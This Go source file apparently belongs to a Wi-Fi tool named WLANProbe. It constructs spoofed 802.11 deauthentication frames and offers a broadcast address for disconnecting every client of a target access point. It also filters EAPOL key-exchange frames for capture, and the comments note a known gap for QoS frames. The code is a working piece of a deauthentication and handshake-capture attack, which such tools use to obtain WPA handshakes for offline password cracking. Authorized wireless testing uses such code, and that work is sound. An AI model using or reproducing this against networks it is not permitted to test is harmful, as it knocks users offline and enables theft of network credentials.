// Copyright 2025 WLANProbe Contributors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

// Package dot11 holds the raw 802.11 frame logic: spoofed deauthentication
// frame construction and EAPOL key-exchange frame classification.
package dot11

import "encoding/binary"

const (
	// DeauthFrameLen full length of a constructed deauthentication frame:
	// 24-byte management header plus the 2-byte reason code
	DeauthFrameLen = 26
	// deauthFrameControl frame control byte 0: protocol version 0,
	// type management (00), subtype deauthentication (1100)
	deauthFrameControl = 0xC0
	// reasonClass3FromNonAssoc reason code 7, "class-3 frame received from
	// nonassociated station"
	reasonClass3FromNonAssoc = 7

	// frameTypeData 2-bit frame type value for data frames
	frameTypeData = 2
	// llcSnapOffset where the LLC/SNAP header sits in a QoS-less data frame
	llcSnapOffset = 24
)

// BroadcastAddress deauthenticates every station of the target AP at once
var BroadcastAddress = [6]byte{0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}

// eapolSnapHeader the 8-byte LLC/SNAP tag carried by EAPOL key-exchange
// frames: DSAP/SSAP 0xAA/0xAA, control 0x03, organization code, and the
// EAPOL ethertype 0x888E
var eapolSnapHeader = [8]byte{0xAA, 0xAA, 0x03, 0x00, 0x0C, 0x00, 0x88, 0x8E}

// minEAPOLFrameLen data frame header plus the complete LLC/SNAP tag; anything
// shorter cannot hold the pattern the classifier compares
const minEAPOLFrameLen = llcSnapOffset + len(eapolSnapHeader)

// NewDeauthFrame
// constructs a spoofed deauthentication frame addressed to dst, appearing to
// come from src on behalf of bssid. Pure construction, called at ~100 Hz
// during an active session, so it allocates exactly once and does no parsing.
func NewDeauthFrame(dst, src, bssid [6]byte) []byte {
	frame := make([]byte, DeauthFrameLen)
	frame[0] = deauthFrameControl
	// frame[1] flags, frame[2:4] duration: zero
	copy(frame[4:10], dst[:])
	copy(frame[10:16], src[:])
	copy(frame[16:22], bssid[:])
	// frame[22:24] sequence control left to the radio
	binary.LittleEndian.PutUint16(frame[24:26], reasonClass3FromNonAssoc)
	return frame
}

// IsEAPOL
// decides whether a raw over-the-air frame is an EAPOL key-exchange frame
// worth writing to the capture file. EAPOL travels inside ordinary data
// frames and is only recognizable by the nested LLC/SNAP protocol tag, not
// by any 802.11-layer field.
//
// Known gap: QoS data frames (common on modern APs) carry a 2-byte QoS
// control field that shifts the LLC/SNAP region to offset 26, so their
// handshake messages are silently missed. Do not move the offset without
// test vectors confirming the real layout.
func IsEAPOL(frame []byte) bool {
	if len(frame) < minEAPOLFrameLen {
		return false
	}
	// frame control type subfield, bits 2-3 of the first byte
	if (frame[0]>>2)&0x03 != frameTypeData {
		return false
	}
	for i, b := range eapolSnapHeader {
		if frame[llcSnapOffset+i] != b {
			return false
		}
	}
	return true
}
